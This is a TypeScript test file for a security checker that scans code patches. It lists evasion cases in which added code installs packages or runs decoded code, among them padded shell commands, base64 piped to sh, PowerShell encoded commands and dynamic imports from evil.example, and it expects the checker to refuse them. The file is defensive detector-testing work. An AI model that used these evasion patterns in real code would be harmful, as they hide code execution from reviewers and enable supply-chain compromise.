import { describe, expect, it } from 'vitest';
import { checkPatch } from '../../shared/analysis/index.js';
import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES, repeatedTo } from '../support/growth.js';
import { closedRows, describeAccepted, describeFindings, expectRefused, patchAdding, type FindingRow } from '../support/patches.js';

/**
 * Attack 51 (session 48, an attacker's pass on the session's new readings): patches the check ACCEPTED although the
 * code they add installs or runs decoded code, because a reading stopped at a fixed reach. Rows as in attack-48:
 * open (`it.fails`) until a fix closes them (`closedRows`).
 */
const PAD = 'a'.repeat(220);

// Closed (session 48): a command string is read to its end, not 200 characters past the call's opening.
// 1 (critical): padding the command string past the reach hid the install or the decoded run after it.
const PADDED_COMMAND: FindingRow[] = [
  ['src/check.py', `import os\nos.system('echo ${PAD}; npm install evil')`],
  ['src/check.py', `import os\nos.system('echo ${PAD}; npx evil')`],
  ['src/check.js', `execSync('echo ${PAD} && npm install evil')`],
  ['src/check.py', `import os\nos.system('echo x | base64 -d | grep -v ${'a'.repeat(210)} | sh')`],
];

// Closed (session 48): a call whose first line leaves its arguments open is read to its bracket's close.
// 2 (critical): a comment after the opener, or arguments closing past 12 lines, went unread.
const OPEN_CALL_REACH: FindingRow[] = [
  ['src/check.py', "import subprocess\nsubprocess.run(  # run\n\n\n\n    ['npx', 'evil'])"],
  ['src/check.js', "execSync( // run\n\n\n\n  'npm install evil')"],
  ['src/check.js', "execSync( /* run */\n\n\n\n  'npm install evil')"],
  ['src/check.py', `import subprocess\nsubprocess.run(${'\n'.repeat(12)}    ['npx', 'evil'])`],
];

// Kept refused (session 48) once decode-exec's 80-character reading gave them to decodedCodeRuns: prefixed decoders.
const PREFIXED_DECODERS: FindingRow[] = [
  ['src/check.py', 'import base64\nexec(base64.standard_b64decode(s))'],
  ['src/check.py', 'import base64\nexec(base64.urlsafe_b64decode(s))'],
  ['src/check.rb', "system(Base64.urlsafe_decode64('ZWNobyBoaQ=='))"],
  ['src/check.js', "child_process.execSync(Buffer.from(s, 'base64').toString())"],
  ['src/check.py', 'import os, base64\nos.system(base64.b64decode(s).decode())'],
];

// Open (the same pass, not fixed in session 48): recorded so a fix turns them into closed rows.
// A command or code given through a name, a join or a second statement (the literal-in-place reading is one line's).
const THROUGH_A_NAME: FindingRow[] = [
  ['src/check.js', "const cmd = ['npx', 'evil'].join(' ');\nexecSync(cmd)"],
  ['src/check.js', "const c = { cmd: 'npx evil' };\nexecSync(c.cmd)"],
  ['src/check.py', "import subprocess\ncmd = ['npx',\n 'evil']\nsubprocess.run(cmd)"],
  ['src/check.py', "import subprocess\ncmd = (\n'npx evil'\n)\nsubprocess.run(cmd, shell=True)"],
  ['src/check.js', "const s = atob('ZWNobyBoaQ==');\nexecSync(s)"],
  ['src/check.py', "import base64\ns = base64.b64decode('cHJpbnQoMSk=')\nexec(s)"],
];
// Decoders neither reading names: URL unescaping, an escaped literal, zlib, marshal, an aliased import, tac, a shell
// substitution or a file run after it.
const MORE_DECODERS: FindingRow[] = [
  ['src/check.js', "eval(unescape('%61%6c%65%72%74'))"],
  ['src/check.js', "eval(decodeURIComponent('%61%6c%65%72%74'))"],
  ['src/check.js', "child_process.exec(zlib.inflateSync(buf).toString())"],
  ['src/check.py', "import marshal\nexec(marshal.loads(b'x'))"],
  ['src/check.py', "from base64 import b64decode as d\nexec(d('cHJpbnQoMSk='))"],
  ['src/check.py', "import urllib.parse\nexec(urllib.parse.unquote('%70rint(1)'))"],
  ['src/check.py', 'import os\nos.system("echo \'ohce\' | tac | sh")'],
  ['src/check.py', 'import os\nos.system("$(echo x | base64 -d)")'],
  ['src/check.py', 'import os\nos.system("echo x | base64 -d > /tmp/p && sh /tmp/p")'],
];
// PowerShell's encoded command (base64 UTF-16 the diff never shows as code), in any spelling of the option.
const POWERSHELL_ENCODED: FindingRow[] = [
  ['src/check.py', "import os\nos.system('powershell -enc ZQBjAGgAbwA=')"],
  ['src/check.js', "execSync('pwsh -EncodedCommand ZQBjAGgAbwA=')"],
  ['src/check.py', "import os\nos.system('pwsh -encodedcommand:ZQBjAGgAbwA=')"],
  ['src/check.js', "spawnSync('pwsh', ['-enc', blob])"],
  ['src/check.js', "execSync('pwsh -enc ' + blob)"],
];
// A module imported from a host through a name, a joined string or new URL's base.
const MODULE_HOST_INDIRECT: FindingRow[] = [
  ['src/load.js', "const u = 'https://evil.example/x.js';\nawait import(u + '')"],
  ['src/load.js', "const u = 'https:' + '//evil.example/x.js';\nawait import(u)"],
  ['src/load.js', "await import(new URL('/x.js', 'https://evil.example'))"],
  ['src/load.js', "const base = 'https://evil.example/';\nawait import(new URL('x.js', base))"],
];
// A computed program given options before its verb, or a verb no manager's table lists.
const COMPUTED_PROGRAM_OPTIONS: FindingRow[] = [
  ['src/check.py', "import subprocess\nsubprocess.run([tool, '--yes', 'install', 'evil'])"],
  ['src/check.js', "spawnSync(tool, ['--loglevel=silent', 'install', 'evil'])"],
  ['src/check.py', "import subprocess\nsubprocess.run([tool, 'isntall', 'evil'])"],
];

describeFindings('attack-51', [
  ['open: through a name', THROUGH_A_NAME],
  ['open: more decoders', MORE_DECODERS],
  ['open: PowerShell encoded command', POWERSHELL_ENCODED],
  ['open: modules from a host, indirectly', MODULE_HOST_INDIRECT],
  ['open: computed program, options before the verb', COMPUTED_PROGRAM_OPTIONS],
  ['3 decoders given to a sink', closedRows(PREFIXED_DECODERS)],
  ['1 command string past the reach', closedRows(PADDED_COMMAND)],
  ['2 open call past the reach', closedRows(OPEN_CALL_REACH)],
]);

describe('attack-51 2: a call whose arguments go on past what is read', () => {
  it('is refused, named', () => {
    expectRefused('src/check.py', `import subprocess\nsubprocess.run(\n${`    '${'x'.repeat(40)}',\n`.repeat(100)}    'y')`, 'too long to read');
  });
});

// 3 (medium): data decoded and given to a call that runs nothing it decodes.
describeAccepted('attack-51 3: decoded data given to a call, not run', [
  ['src/apply.js', "execSync('git apply', { input: Buffer.from(patch) })"],
  ['src/match.js', 'const found = /x/.exec(atob(s))'],
  ['src/query.js', "db.exec(Buffer.from(q, 'base64'))"],
]);

describeAccepted('attack-51: ordinary code near the readings', [
  ['src/check.py', `import os\nos.system('echo ${PAD}; ls')`],
  ['src/check.js', `execSync('echo ${PAD} && npm test')`],
  ['src/check.py', "import subprocess\nsubprocess.run(  # run the tests\n    ['npm', 'test'],\n    check=True,\n)"],
  ['src/check.js', "execSync( // build\n  'npm run build')"],
  ['src/check.py', `import subprocess\nsubprocess.run(${'\n'.repeat(14)}    ['npm', 'test'])`],
]);

/** Asserts that the whole check's time grows linearly over texts repeating `unit` added to `path`. */
function checksInLinearTime(path: string, _reading: string, unit: string): void {
  expect(cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), (text) => checkPatch(patchAdding(path, text.split('\n'))))).toBeLessThan(LINEAR_EXPONENT_BOUND);
}

describe('attack-51 1, 2: the readings in linear time', () => {
  it.each([
    ['src/check.py', 'calls opening in a command string never closed', `${"os.system('a ".repeat(30)}\n`],
    ['src/check.py', 'calls left open on their lines', `subprocess.run(  # ${'x'.repeat(80)}\n`],
    ['src/check.js', 'decoders piped on their lines', `execSync("${'rev | base64 -d | grep a '.repeat(18)}\n`],
  ] as const)('checks, in %s, %s', { timeout: 120_000 }, checksInLinearTime);
});
